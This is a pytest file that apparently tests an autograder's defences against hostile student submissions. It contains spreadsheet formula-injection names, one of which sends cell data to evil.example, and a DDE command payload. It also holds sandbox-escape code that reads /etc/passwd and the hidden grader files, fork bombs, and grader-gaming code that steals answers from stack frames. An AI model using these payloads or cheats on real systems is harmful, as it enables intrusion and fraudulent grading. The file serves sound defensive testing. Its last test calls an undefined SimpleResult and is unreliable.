"""Issue 12: each way a submission fooled or knocked over `mcalc-tutor grade`, as a real submission
(a TOML file and code files in a temporary folder) graded end to end through mcalc_tutor.grading,
in bubblewrap mode and in the refusal path without it (MCALC_TUTOR_NO_BWRAP=1).

Honest parts beside each attack must keep their score: an attack costs its own submission (or
its own test) only, with a reason, and the batch always finishes.
"""
from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from mcalc_tutor.grading.batch import grade_many
from mcalc_tutor.grading.grader import NOT_GRADED, grade_path
from mcalc_tutor.grading.runner import NEEDS_BUBBLEWRAP, NO_BWRAP_ENV, sandbox_mode

ROOT = Path(__file__).resolve().parents[1]
CLI = [sys.executable, "-m", "mcalc_tutor"]
REFERENCE = {name: (ROOT / "solutions" / section / f"{name}.py").read_text(encoding="utf-8")
             for section, name in (("background", "power_iteration"), ("gradients", "gradient_check"))}
MATH = ('[answers.grad-quadratic-form]\na = "x\' A x"\nb = "A x + A^T x"\nc = "4"\n')
MATH_POINTS = 4
POWER = '[answers.code-power-iteration]\na = "power_iteration.py"\n'
GRADCHECK = '[answers.code-gradient-check]\na = "gradient_check.py"\n'

MODES = (["bwrap"] if sandbox_mode() == "bwrap" else []) + ["no-bwrap"]


@pytest.fixture(params=MODES)
def sandbox(request, monkeypatch):
    """``bwrap`` (where it works here) or ``no-bwrap``: the refusal path, as on a machine without it."""
    if request.param == "no-bwrap":
        monkeypatch.setenv(NO_BWRAP_ENV, "1")
    else:
        monkeypatch.delenv(NO_BWRAP_ENV, raising=False)
    return request.param


def student(folder: Path, name: str, answers: str = MATH, files: dict[str, str] | None = None,
            seed: int = 0) -> Path:
    """A submission folder: submission.toml for ``name`` and its code files."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "submission.toml").write_text(f'[meta]\nstudent = {json.dumps(name)}\nseed = {seed}\n\n{answers}',
                                            encoding="utf-8")
    for file_name, text in (files or {}).items():
        (folder / file_name).write_text(text, encoding="utf-8")
    return folder / "submission.toml"


def parts(result) -> dict[tuple[str, str], object]:
    return {(p.exercise, p.part): p for p in result.parts}


def math_score(result) -> float:
    return sum(p.score for p in result.parts if p.exercise == "grad-quadratic-form")


def assert_code_part(part, mode: str, full: bool) -> None:
    """A code part: its score in bwrap mode; "needs bubblewrap" and no score without it."""
    if mode == "no-bwrap":
        assert part.status == NOT_GRADED and part.score == 0 and NEEDS_BUBBLEWRAP in part.feedback, part
    elif full:
        assert part.status == "correct" and part.score == part.max_score, part.feedback
    else:
        assert part.score < part.max_score, part.feedback


def _label(submission: str) -> str:
    path = Path(submission)
    return path.parent.name if path.name == "submission.toml" else path.name


# ---- class 5: files that stopped a whole batch ---------------------------------------------------

def test_files_that_stopped_a_batch_are_each_that_submissions_zero(tmp_path, sandbox):
    batch = tmp_path / "batch"
    student(batch / "alice", "alice", MATH + POWER, {"power_iteration.py": REFERENCE["power_iteration"]})
    (batch / "nested").mkdir(parents=True)
    (batch / "nested" / "submission.toml").write_text("a = " + "[" * 3000 + "]" * 3000 + "\n")
    (batch / "fifo").mkdir()
    os.mkfifo(batch / "fifo" / "submission.toml")
    os.mkfifo(batch / "pipe.toml")
    (batch / "zero").mkdir()
    (batch / "zero" / "submission.toml").symlink_to("/dev/zero")
    (batch / "passwd.toml").symlink_to("/etc/passwd")
    code_link = student(batch / "codelink", "codelink", MATH + POWER)
    (code_link.parent / "power_iteration.py").symlink_to("/dev/zero")
    code_fifo = student(batch / "codefifo", "codefifo", MATH + POWER)
    os.mkfifo(code_fifo.parent / "power_iteration.py")
    inside = student(batch / "inside", "inside", MATH + POWER, {"real.py": REFERENCE["power_iteration"]})
    (inside.parent / "power_iteration.py").symlink_to("real.py")  # a link inside the folder is fine
    linked = student(tmp_path / "elsewhere" / "linked", "linked", MATH + POWER,
                     {"power_iteration.py": REFERENCE["power_iteration"]})
    (batch / "linked").symlink_to(linked.parent)  # so is a student folder linked into the class folder
    (linked.parent / "escape.py").symlink_to(batch / "alice" / "power_iteration.py")

    from mcalc_tutor.grading.submission import find_submissions

    paths, errors = find_submissions([str(batch)])
    assert not errors
    started = time.monotonic()
    results = {_label(r.submission): r for r in grade_many(paths, None, 1)}
    assert time.monotonic() - started < 60
    assert set(results) == {"alice", "nested", "fifo", "pipe.toml", "zero", "passwd.toml", "codelink", "codefifo",
                            "inside", "linked"}
    assert results["alice"].error is None and math_score(results["alice"]) == MATH_POINTS
    assert_code_part(parts(results["alice"])[("code-power-iteration", "a")], sandbox, full=True)
    assert_code_part(parts(results["inside"])[("code-power-iteration", "a")], sandbox, full=True)
    assert_code_part(parts(results["linked"])[("code-power-iteration", "a")], sandbox, full=True)
    from mcalc_tutor.grading.submission import read_code_file, read_submission

    code, problem = read_code_file(read_submission(batch / "linked" / "submission.toml"), "escape.py")
    assert code is None and "outside the submission's folder" in problem  # confined to the link's target
    assert "nested too deeply" in results["nested"].error
    assert "FIFO" in results["fifo"].error and "FIFO" in results["pipe.toml"].error
    assert "outside the submission's folder" in results["zero"].error
    assert "outside the submission's folder" in results["passwd.toml"].error
    for name in ("nested", "fifo", "pipe.toml", "zero", "passwd.toml"):
        assert results[name].score == 0
    for name, word in (("codelink", "outside the submission's folder"), ("codefifo", "FIFO")):
        code = parts(results[name])[("code-power-iteration", "a")]
        assert code.status == "invalid" and code.score == 0 and word in code.feedback
        assert math_score(results[name]) == MATH_POINTS  # the other parts of that submission are still graded


def test_a_submission_too_big_to_parse_quickly_is_refused_before_parsing(tmp_path):
    from mcalc_tutor.grading.submission import read_submission

    path = tmp_path / "many.toml"
    path.write_text("a = [" + "1," * 3_000_000 + "]\n")
    started = time.monotonic()
    sub = read_submission(path)
    assert time.monotonic() - started < 2 and "too many lines or items" in sub.error


def test_a_huge_answer_string_costs_little_memory_and_only_its_part(tmp_path):
    """A 20 MB answer (under the file cap): the fast reader's string pattern took 4 GiB and 8 s on it."""
    path = tmp_path / "huge" / "submission.toml"
    path.parent.mkdir()
    path.write_text('[meta]\nstudent = "huge"\n[answers.grad-quadratic-form]\na = "' + "x+" * (10 * 1024 * 1024)
                    + 'x"\nb = "A x + A^T x"\n', encoding="utf-8")
    probe = ("import json, resource, subprocess, sys\n"
             "run = subprocess.run(sys.argv[1:], capture_output=True, text=True)\n"
             "print(json.dumps([run.returncode, run.stdout, run.stderr,"
             " resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss]))\n")
    out = subprocess.run([sys.executable, "-c", probe, *CLI, "grade", str(path), "--format", "json"],
                         capture_output=True, text=True, timeout=120)
    code, stdout, stderr, peak_kib = json.loads(out.stdout)
    assert code == 0 and "Traceback" not in stderr, stderr[-2000:]
    by_part = {p["part"]: p for p in json.loads(stdout)["parts"]}
    assert by_part["a"]["status"] == "invalid" and "too long" in by_part["a"]["feedback"]
    assert by_part["b"]["status"] == "correct"
    assert peak_kib < 1024 * 1024, f"grading one submission peaked at {peak_kib // 1024} MiB"


def test_a_hostile_batch_through_the_cli_finishes_without_a_traceback(tmp_path, sandbox):
    batch = tmp_path / "batch"
    student(batch / "alice", "alice")
    (batch / "deep.toml").write_text("[answers.x]\na = " + "{b = " * 3000 + "1" + "}" * 3000 + "\n")
    os.mkfifo(batch / "fifo.toml")
    (batch / "zero.toml").symlink_to("/dev/zero")
    env = {k: v for k, v in os.environ.items() if k != NO_BWRAP_ENV}
    if sandbox == "no-bwrap":
        env[NO_BWRAP_ENV] = "1"
    run = subprocess.run([*CLI, "grade", str(batch), "--format", "json", "--jobs", "2"], capture_output=True,
                         text=True, timeout=120, env=env)
    assert run.returncode == 0 and "Traceback" not in run.stderr, run.stderr
    by_name = {Path(d["submission"]).name: d for d in json.loads(run.stdout)}
    assert by_name["submission.toml"]["score"] == MATH_POINTS
    assert "nested too deeply" in by_name["deep.toml"]["error"]
    assert "FIFO" in by_name["fifo.toml"]["error"] and "outside" in by_name["zero.toml"]["error"]


# ---- class 3: the result channel -----------------------------------------------------------------

FLOOD = """
import os as _os
_junk = b"".join(b'{"event": "noise", "n": %d}\\n' % i for i in range(40000))
_deep = b"\\n" + b"[" * 100000 + b"\\n"
_long = b"\\n" + b'{"event": "test", "name": "' + b"x" * (3 * 1024 * 1024) + b'"}\\n'
for _fd in range(3, 12):
    try:
        _os.fstat(_fd)
    except OSError:
        continue
    for _blob in (_junk, _deep, _long):
        try:
            _os.write(_fd, _blob)
        except OSError:
            pass
"""


def test_a_flooded_result_channel_is_read_in_linear_time_and_spares_the_other_parts(tmp_path, sandbox):
    path = student(tmp_path / "flood", "flood", MATH + POWER,
                   {"power_iteration.py": REFERENCE["power_iteration"] + FLOOD})
    started = time.monotonic()
    result = grade_path(path)
    assert time.monotonic() - started < 15
    assert result.error is None and math_score(result) == MATH_POINTS
    assert_code_part(parts(result)[("code-power-iteration", "a")], sandbox, full=True)


def test_runner_parses_a_hostile_channel_with_bounds():
    from mcalc_tutor.grading import runner

    lines = b"".join(b'{"event": "violation", "reason": "r%d"}\n' % i for i in range(40000))
    started = time.monotonic()
    parsed = runner._parse_protocol(lines + b"[" * 100000 + b"\n" + b"{" * 10 + b"\n")
    assert time.monotonic() - started < 2
    assert len(parsed.events) == 40000 and parsed.unreadable == ["a line nested too deeply"]
    big = bytearray(b'{"event": "x"}\n' * (runner.MAX_EVENTS + 10))
    assert len(runner._parse_protocol(big).events) == runner.MAX_EVENTS


# ---- class 6: --out onto a device, FIFO, socket, folder or link ----------------------------------

def _special_targets(tmp_path: Path) -> dict[str, Path]:
    import socket
    import stat as stat_module

    targets = {"fifo": tmp_path / "fifo", "folder": tmp_path / "folder", "link": tmp_path / "link",
               "socket": tmp_path / "sock"}
    os.mkfifo(targets["fifo"])
    targets["folder"].mkdir()
    (tmp_path / "victim.csv").write_text("precious\n")
    targets["link"].symlink_to(tmp_path / "victim.csv")
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(targets["socket"]))
    server.close()
    if os.geteuid() == 0:  # a private copy of /dev/null: the real one is never put at risk
        targets["device"] = tmp_path / "null"
        os.mknod(targets["device"], stat_module.S_IFCHR | 0o666, os.makedev(1, 3))
    return targets


def test_out_refuses_anything_but_a_regular_file(tmp_path):
    import stat as stat_module

    from mcalc_tutor.grading.output import write_report

    targets = _special_targets(tmp_path)
    before = {name: os.lstat(path).st_mode for name, path in targets.items()}
    for name, path in targets.items():
        problem = write_report(path, "report\n")
        assert problem and "\n" not in problem and "not a regular file" in problem, (name, problem)
        assert os.lstat(path).st_mode == before[name], name
    assert (tmp_path / "victim.csv").read_text() == "precious\n"
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")) == []
    assert write_report(tmp_path / "new" / "grades.csv", "a\n") is None
    assert write_report(tmp_path / "new" / "grades.csv", "b\n") is None  # a regular file is replaced
    assert (tmp_path / "new" / "grades.csv").read_text() == "b\n"
    assert stat_module.S_ISREG(os.lstat(tmp_path / "new" / "grades.csv").st_mode)


def test_grade_out_onto_a_device_exits_2_with_one_line(tmp_path):
    targets = _special_targets(tmp_path)
    sub = student(tmp_path / "alice", "alice")
    target = targets.get("device", targets["fifo"])
    before = os.lstat(target)
    run = subprocess.run([*CLI, "grade", str(sub), "--format", "csv", "--out", str(target)], capture_output=True,
                         text=True, timeout=60)
    assert run.returncode == 2 and run.stdout == ""
    assert run.stderr.count("\n") == 1 and "not a regular file" in run.stderr, run.stderr
    after = os.lstat(target)
    assert (after.st_mode, after.st_ino, after.st_rdev) == (before.st_mode, before.st_ino, before.st_rdev)


# ---- class 7: the gradebook trusted the submission -----------------------------------------------

HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "@SUM(A1:A9)",
                 "-2+3", "\tTAB", "\rCR", "mallory\nbob (x.toml): 9 / 9", "eve\u202egnp.exe", "zed\x1b[2J"]


def _gradebook_batch(tmp_path: Path) -> Path:
    batch = tmp_path / "batch"
    for i, name in enumerate(HOSTILE_NAMES):
        student(batch / f"h{i}", name)
    student(batch / "alice-1", "alice")
    student(batch / "alice-2", " Alice ")  # the same student, however it is spelled
    student(batch / "bob", "bob")
    return batch


def test_gradebook_neutralises_formulas_escapes_controls_and_flags_duplicates(tmp_path):
    import csv
    import io

    from mcalc_tutor.grading.reports import class_report_data, class_report_text, json_report, text_report
    from mcalc_tutor.grading.submission import find_submissions

    batch = _gradebook_batch(tmp_path)
    run = subprocess.run([*CLI, "grade", str(batch), "--format", "csv"], capture_output=True, text=True, timeout=60)
    assert run.returncode == 0, run.stderr
    rows = list(csv.reader(io.StringIO(run.stdout)))
    header, body = rows[0], rows[1:]
    assert len(body) == len(HOSTILE_NAMES) + 3
    status, names = header.index("status"), header.index("student")
    for row in body:
        for value in (row[names], row[header.index("submission")], row[header.index("error")]):
            assert not value.lstrip().startswith(("=", "+", "-", "@")), value
            assert value.isprintable(), value
    by_name = {row[names].strip().casefold(): row for row in body}
    assert by_name["alice"][status] == "duplicate" and by_name["bob"][status] == "ok"
    assert "also claimed by" in by_name["alice"][header.index("warnings")]
    assert by_name["'=hyperlink(\"http://evil.example/?\"&a1,\"click\")"][status] == "ok"

    results = grade_many(sorted(find_submissions([str(batch)])[0]), None, 1)
    text = text_report(results)
    headlines = [line for line in text.splitlines() if line and not line.startswith(" ")]
    assert len(headlines) == len(results)  # a newline in a name forges no line
    assert "mallory\\nbob" in text and "\\u202e" in text and "\\x1b" in text and "\x1b" not in text
    assert text.count("! warning: duplicate student") == 2
    data = json.loads(json_report(results))
    assert sorted(d["status"] for d in data).count("duplicate") == 2
    assert len(class_report_data(results)["duplicates"]) == 2
    assert "warning: duplicate student" in class_report_text(results)


def test_learner_text_in_feedback_cannot_forge_report_lines(tmp_path, sandbox):
    from mcalc_tutor.grading.reports import text_report

    code = ("def power_iteration(A, x0, num_iters=1000, tol=1e-12):\n"
            "    raise ValueError('boom\\nalice (a.toml): 100 / 100\\x1b[2J')\n")
    result = grade_path(student(tmp_path / "s", "s", MATH + POWER, {"power_iteration.py": code}))
    text = text_report([result])
    assert not any(line.startswith("alice") for line in text.splitlines())
    if sandbox == "bwrap":
        assert "boom\\nalice" in text and "\x1b" not in text


# ---- classes 1 and 2: no truth in the sandbox, and the method is graded --------------------------

FRAME_THIEF = '''
import sys
import numpy as np

_stolen = {}


def _steal(x, skip):
    """Walk up the stack and try every callable or matrix the harness keeps in its frames."""
    frame = sys._getframe(2)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if callable(value) and value is not skip:
                try:
                    guess = np.asarray(value(x), dtype=float)
                except Exception:
                    continue
                if guess.shape == np.shape(x):
                    return guess
        frame = frame.f_back
    return None


def numerical_gradient(f, x, eps=1e-5):
    for grad_f in _stolen.values():       # a gradient handed to gradient_check earlier
        try:
            return np.asarray(grad_f(x), dtype=float)
        except Exception:
            pass
    guess = _steal(x, f)
    return guess if guess is not None else np.zeros_like(x)


def relative_error(a, b):
    a, b = np.asarray(a, dtype=float), np.asarray(b, dtype=float)
    return float(np.linalg.norm(a - b) / max(np.linalg.norm(a), np.linalg.norm(b), 1e-12))


def gradient_check(f, grad_f, x, eps=1e-5):
    _stolen[np.shape(x)] = grad_f
    return 0.0
'''

EIGH_THIEF = '''
import sys
import numpy as np

_eigh = np.linalg.eigh       # captured at import, before any switch-off


def _matrix_from_frames():
    frame = sys._getframe(1)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if isinstance(value, np.ndarray) and value.ndim == 2 and value.shape[0] == value.shape[1]:
                return value
            if isinstance(value, dict) and isinstance(value.get("A"), list):
                return np.array(value["A"], dtype=float)
        frame = frame.f_back
    return None


def power_iteration(A, x0, num_iters=1000, tol=1e-12):
    M = _matrix_from_frames()
    if M is None:
        M = np.asarray(A, dtype=float)
    w, V = _eigh(M)
    k = int(np.argmax(np.abs(w)))
    v = V[:, k]
    for _ in range(3):                 # a few products, to look busy
        A @ v
    return float(w[k]), v
'''


def test_learner_code_finds_no_truth_in_the_harness_memory(tmp_path, sandbox):
    path = student(tmp_path / "thief", "thief", MATH + GRADCHECK, {"gradient_check.py": FRAME_THIEF})
    result = grade_path(path)
    code = parts(result)[("code-gradient-check", "a")]
    assert math_score(result) == MATH_POINTS
    assert_code_part(code, sandbox, full=False)
    if sandbox == "bwrap":
        lines = code.feedback.splitlines()
        assert not any(line.startswith("PASS numerical_gradient") for line in lines), code.feedback
        assert not any(line.startswith("PASS gradient_check") for line in lines), code.feedback


def test_an_eigen_solver_instead_of_power_iteration_scores_nothing(tmp_path, sandbox):
    path = student(tmp_path / "eigh", "eigh", MATH + POWER, {"power_iteration.py": EIGH_THIEF})
    result = grade_path(path)
    code = parts(result)[("code-power-iteration", "a")]
    assert_code_part(code, sandbox, full=False)
    if sandbox == "bwrap":
        assert code.score == 0 and "power iteration only ever multiplies" in code.feedback, code.feedback


def test_a_gradient_check_that_always_returns_zero_scores_zero(tmp_path, sandbox):
    zero = REFERENCE["gradient_check"].replace("    analytic = np.asarray(grad_f(x), dtype=float)",
                                               "    return 0.0\n    analytic = None")
    assert zero != REFERENCE["gradient_check"]
    result = grade_path(student(tmp_path / "zero", "zero", GRADCHECK, {"gradient_check.py": zero}))
    code = parts(result)[("code-gradient-check", "a")]
    assert_code_part(code, sandbox, full=False)
    if sandbox == "bwrap":
        lines = code.feedback.splitlines()
        assert [line for line in lines if line.startswith("PASS gradient_check")] == []
        assert all(line.startswith("PASS") for line in lines if "numerical_gradient" in line)


# ---- class 8: without bubblewrap, code parts are refused unless --unsandboxed --------------------

def test_without_bubblewrap_code_parts_are_refused_unless_unsandboxed(tmp_path):
    sub = student(tmp_path / "alice", "alice", MATH + POWER, {"power_iteration.py": REFERENCE["power_iteration"]})
    env = {**os.environ, NO_BWRAP_ENV: "1"}
    refused = subprocess.run([*CLI, "grade", str(sub), "--format", "json"], capture_output=True, text=True,
                             timeout=60, env=env)
    assert refused.returncode == 0, refused.stderr
    data = json.loads(refused.stdout)
    code = next(p for p in data["parts"] if p["exercise"] == "code-power-iteration")
    assert code["status"] == NOT_GRADED and code["score"] == 0 and NEEDS_BUBBLEWRAP in code["feedback"]
    assert data["score"] == MATH_POINTS  # the math parts are graded
    trusted = subprocess.run([*CLI, "grade", str(sub), "--format", "json", "--unsandboxed"], capture_output=True,
                             text=True, timeout=60, env=env)
    code = next(p for p in json.loads(trusted.stdout)["parts"] if p["exercise"] == "code-power-iteration")
    assert code["status"] == "correct" and "bubblewrap" in code["feedback"]  # graded, with the warning


GUARD_BREAKER = '''
import os, sys, time
import numpy as np

_report = []
import __main__  # pure Python: the audit hook calls the driver's global _under; make it say yes
__main__._under = lambda path, roots: "/usr" in roots or len(roots) == 1  # allowed to read and to write
for _label, _path in (("passwd", "/etc/passwd"), ("hidden", {hidden!r})):
    try:
        _dir = os.open(os.path.dirname(_path), os.O_RDONLY)
        _fd = os.open(os.path.basename(_path), os.O_RDONLY, dir_fd=_dir)
        _report.append(_label + ":" + os.read(_fd, 200).decode(errors="replace"))
    except Exception as exc:
        _report.append(_label + " blocked " + type(exc).__name__)
try:
    _fd = os.open("{outside}", os.O_WRONLY | os.O_CREAT, 0o644)
    os.write(_fd, b"x")
    _report.append("wrote outside")
except Exception as exc:
    _report.append("write blocked " + type(exc).__name__)
print("REPORT", _report)


def power_iteration(A, x0, num_iters=1000, tol=1e-12):
    x = np.array(x0, dtype=float)
    x /= np.linalg.norm(x)
    lam = x @ A @ x
    for _ in range(num_iters):
        w = A @ x
        x = w / np.linalg.norm(w)
        lam_new = x @ A @ x
        if abs(lam_new - lam) <= tol * abs(lam_new):
            return lam_new, x
        lam = lam_new
    return lam, x
'''


def test_bypassing_the_guard_reaches_nothing_in_bwrap_and_is_not_run_without_it(tmp_path, sandbox):
    import mcalc_tutor.grading.challenges.power_iteration as hidden

    outside = tmp_path / "outside-marker"
    code = GUARD_BREAKER.format(hidden=hidden.__file__, outside=str(outside))
    result = grade_path(student(tmp_path / "mallory", "mallory", MATH + POWER, {"power_iteration.py": code}))
    part = parts(result)[("code-power-iteration", "a")]
    assert math_score(result) == MATH_POINTS and not outside.exists()
    assert "root:" not in part.feedback and "def judge" not in part.feedback
    if sandbox == "no-bwrap":
        assert part.status == NOT_GRADED
    else:  # the guard really was switched off (the code ran to the end), and bwrap still held
        assert part.status == "correct", part.feedback


# ---- class 9: hidden tests computable offline ----------------------------------------------------

def test_instance_seed_is_an_hmac_of_secret_exercise_and_student():
    import hashlib
    import hmac

    from mcalc_tutor.grading.grader import instance_seed

    seed = instance_seed(b"course secret", "code-gradient-check", "alice")
    want = int.from_bytes(hmac.new(b"course secret", b"code-gradient-check\x00alice", hashlib.sha256).digest()[:8],
                          "big") >> 1
    assert seed == want and 0 <= seed < 2**63
    others = {instance_seed(b"course secret", "code-gradient-check", "bob"),
              instance_seed(b"other secret", "code-gradient-check", "alice"),
              instance_seed(b"course secret", "code-power-iteration", "alice")}
    assert seed not in others and len(others) == 3


def test_with_a_course_secret_answers_computed_offline_from_the_package_fail(tmp_path, sandbox):
    from mcalc_tutor.grading.challenges import get_challenge

    test = next(t for t in get_challenge("gradient_check").hidden_tests(0) if t.payload["call"] == "relative_error")
    offline = REFERENCE["gradient_check"] + (f"\n_ANSWERS = {test.expected!r}\n_real = relative_error\n"
                                             "def relative_error(a, b):\n"
                                             "    return _ANSWERS.pop(0) if _ANSWERS else _real(a, b)\n")
    path = student(tmp_path / "offline", "offline", GRADCHECK, {"gradient_check.py": offline})
    without, with_secret = grade_path(path), grade_path(path, secret=b"course secret")
    honest = grade_path(student(tmp_path / "honest", "honest", GRADCHECK,
                                {"gradient_check.py": REFERENCE["gradient_check"]}), secret=b"course secret")
    for result in (without, with_secret, honest):
        assert_code_part(result.parts[0], sandbox, full=result is not with_secret)
    if sandbox == "bwrap":
        assert "PASS relative_error" in without.parts[0].feedback  # the package alone gave the answers away
        assert "FAIL relative_error" in with_secret.parts[0].feedback


# ---- every attack in one batch, beside honest students -------------------------------------------

HOOK_KILLER = '''
import os, sys
import numpy as np


class _Path:
    """Called by the audit hook itself (os.fspath): reach into its frame and widen what it allows."""
    def __fspath__(self):
        frame = sys._getframe(1)
        while frame is not None:
            roots = frame.f_locals.get("read_roots")
            if isinstance(roots, list):
                roots.append("/")
                frame.f_locals["deny_roots"].clear()
            frame = frame.f_back
        return "harmless"


try:
    open(_Path())
except Exception:
    pass
for _target in {targets!r}:
    try:
        with open(_target, "w") as _handle:
            _handle.write("escaped")
    except Exception:
        pass
for _source in ("/etc/passwd", {hidden!r}):
    try:
        print(open(_source).read()[:100])
    except Exception:
        pass
try:
    if os.fork() == 0:
        os.setsid()
        import time
        time.sleep(300)
except Exception:
    pass
''' + REFERENCE["power_iteration"]


def hostile_batch(root: Path, tag: str) -> tuple[Path, dict[str, Path], list[Path]]:
    """A class folder: three honest students and every attack of issue 12. Returns (folder, the
    honest students' submission files, the paths the attacks try to write outside)."""
    import mcalc_tutor.grading.challenges.power_iteration as hidden
    from mcalc_tutor.grading.challenges import get_challenge

    batch = root / "class"
    honest = {
        "honest-1": student(batch / "honest-1", "honest-1", MATH + POWER,
                            {"power_iteration.py": REFERENCE["power_iteration"]}),
        "honest-2": student(batch / "honest-2", "honest-2", MATH + GRADCHECK,
                            {"gradient_check.py": REFERENCE["gradient_check"]}, seed=3),
        "honest-3": student(batch / "honest-3", "honest-3", MATH),
    }
    outside = [Path("/tmp") / f"escaped-{tag}", Path.home() / f"escaped-{tag}", ROOT / f"escaped-{tag}"]
    (batch / "nested").mkdir(parents=True)
    (batch / "nested" / "submission.toml").write_text("a = " + "[" * 3000 + "]" * 3000 + "\n")
    os.mkfifo(batch / "fifo.toml")
    (batch / "zero.toml").symlink_to("/dev/zero")
    (batch / "passwd.toml").symlink_to("/etc/passwd")
    fifo_code = student(batch / "code-fifo", "code-fifo", MATH + POWER)
    os.mkfifo(fifo_code.parent / "power_iteration.py")
    relative = next(t for t in get_challenge("gradient_check").hidden_tests(0) if t.payload["call"] == "relative_error")
    codes = {
        "flood": ("power_iteration.py", REFERENCE["power_iteration"] + FLOOD, POWER),
        "frame-thief": ("gradient_check.py", FRAME_THIEF, GRADCHECK),
        "eigh-thief": ("power_iteration.py", EIGH_THIEF, POWER),
        "zero-check": ("gradient_check.py", REFERENCE["gradient_check"].replace(
            "    analytic = np.asarray(grad_f(x), dtype=float)", "    return 0.0\n    analytic = None"), GRADCHECK),
        "hook-killer": ("power_iteration.py", HOOK_KILLER.format(targets=[str(p) for p in outside],
                                                                  hidden=hidden.__file__), POWER),
        "offline": ("gradient_check.py", REFERENCE["gradient_check"] + f"\n_ANSWERS = {relative.expected!r}\n"
                    "def relative_error(a, b):\n    return _ANSWERS.pop(0) if _ANSWERS else 0.0\n", GRADCHECK),
        "memory-hog": ("power_iteration.py", "_hog = bytearray(3 * 1024 ** 3)\n" + REFERENCE["power_iteration"], POWER),
        "fork": ("power_iteration.py", "import os\nfor _ in range(50):\n    os.fork()\n", POWER),
        "exit": ("power_iteration.py", "import sys\nsys.exit(0)\n", POWER),
        "printer": ("power_iteration.py", "import sys\nwhile True:\n    sys.stdout.write('z' * 65536)\n", POWER),
    }
    for name, (file_name, code, answers) in codes.items():
        student(batch / name, name, MATH + answers, {file_name: code})
    for i, name in enumerate(['=HYPERLINK("http://evil.example","x")', "forger\nhonest-1 (x): 99 / 99",
                              "twin", "Twin "]):
        student(batch / f"name-{i}", name)
    return batch, honest, outside


def _cli_env(sandbox: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k != NO_BWRAP_ENV}
    if sandbox == "no-bwrap":
        env[NO_BWRAP_ENV] = "1"
    return env


def test_hostile_batch_leaves_honest_scores_unchanged(tmp_path, sandbox):
    from mcalc_tutor.grading.runner import processes_with

    tag = os.urandom(6).hex()
    batch, honest, outside = hostile_batch(tmp_path, tag)
    alone = {name: grade_path(path) for name, path in honest.items()}
    before = set(processes_with("mcalc-run-"))
    run = subprocess.run([*CLI, "grade", str(batch), "--format", "json", "--jobs", "2"], capture_output=True,
                         text=True, timeout=300, env=_cli_env(sandbox), cwd=tmp_path)
    assert run.returncode == 0 and "Traceback" not in run.stderr, run.stderr[-2000:]
    results = json.loads(run.stdout)
    assert len(results) == 3 + 19
    by_student = {r["student"]: r for r in results}
    for name, result in alone.items():
        assert by_student[name]["score"] == result.score and by_student[name]["status"] == "ok"
        assert [p["score"] for p in by_student[name]["parts"]] == [p.score for p in result.parts]
    for name in ("honest-1", "honest-2"):
        code = next(p for p in by_student[name]["parts"] if p["exercise"].startswith("code-"))
        assert code["status"] == ("correct" if sandbox == "bwrap" else NOT_GRADED), code["feedback"][:300]
    for name in ("frame-thief", "eigh-thief", "zero-check", "memory-hog", "fork", "exit", "printer"):
        code = next(p for p in by_student[name]["parts"] if p["exercise"].startswith("code-"))
        assert code["score"] < code["max_score"], (name, code["feedback"][:300])
    assert sum(r["status"] == "duplicate" for r in results) == 2
    for path in outside:
        assert not path.exists(), path
    leftovers = set(processes_with("mcalc-run-")) - before
    deadline = time.monotonic() + 12  # runs of other test processes end within their timeout
    while leftovers and time.monotonic() < deadline:
        time.sleep(0.5)
        leftovers &= set(processes_with("mcalc-run-"))
    assert not leftovers, "a process of the batch outlived it"


def test_the_class_report_counts_code_parts_left_ungraded_without_a_sandbox(tmp_path, monkeypatch):
    from mcalc_tutor.grading.reports import class_report_data, class_report_text

    monkeypatch.setenv(NO_BWRAP_ENV, "1")
    results = [grade_path(student(tmp_path / "a", "a", MATH + POWER, {"power_iteration.py": "x = 1\n"}))]
    part = next(p for p in class_report_data(results)["parts"] if p["exercise"] == "code-power-iteration")
    assert part["share"][NOT_GRADED] == 1.0
    assert "100% not graded (no sandbox)" in class_report_text(results)


# ---- found in the audit of issue 12: attacks beyond the nine classes -----------------------------

def _limited(megabytes: int):
    """preexec_fn: the grader's own address space capped (the batch at 6 GB would now fail)."""
    import resource

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (megabytes * 1024 * 1024, megabytes * 1024 * 1024))
    return limit


def test_huge_strings_in_a_submission_cost_neither_memory_nor_the_other_parts(tmp_path):
    """A 30 MB student name or answer (under the 32 MiB file bound) took the fast TOML reader 6 GB
    and 15 s (a regular expression kept a backtracking entry per character); a megabyte-long
    exercise id, part name or code file name was echoed whole on every report line."""
    batch = tmp_path / "batch"
    student(batch / "honest", "honest")
    big = 30 * 1024 * 1024
    student(batch / "big-name", "n" * big)
    student(batch / "big-answer", "big-answer", MATH.replace('c = "4"', 'c = "' + "x+" * (big // 2) + 'x"'))
    student(batch / "escapes", "escapes", MATH + 'd = "' + "\\n" * (big // 4) + '"\n')  # d: not answered
    student(batch / "long-keys", "long-keys", MATH.replace('c = "4"', 'c = "4"\n' + "q" * 10**6 + ' = "1"') +
            f'[answers.{"y" * 10**6}]\na = "1"\n[answers.code-power-iteration]\na = "{"p" * 10**6}.py"\n')
    started = time.monotonic()
    runs = {fmt: subprocess.run([*CLI, "grade", str(batch), "--format", fmt], capture_output=True, text=True,
                                timeout=180, preexec_fn=_limited(1536)) for fmt in ("json", "text")}
    assert time.monotonic() - started < 90
    for run in runs.values():
        assert run.returncode == 0 and "Traceback" not in run.stderr, run.stderr[-2000:]
    by_folder = {Path(r["submission"]).parent.name: r for r in json.loads(runs["json"].stdout)}
    for name in ("honest", "big-name", "big-answer", "escapes", "long-keys"):
        assert by_folder[name].get("error") is None, by_folder[name]["error"]
        assert math_score(SimpleResult(by_folder[name])) == (MATH_POINTS - (name == "big-answer")), name
    assert len(by_folder["big-name"]["student"]) <= 200
    too_long = next(p for p in by_folder["big-answer"]["parts"] if p["part"] == "c")
    assert too_long["status"] == "invalid" and "too long" in too_long["feedback"]
    assert max(map(len, runs["text"].stdout.splitlines())) < 600  # no id or name echoed whole
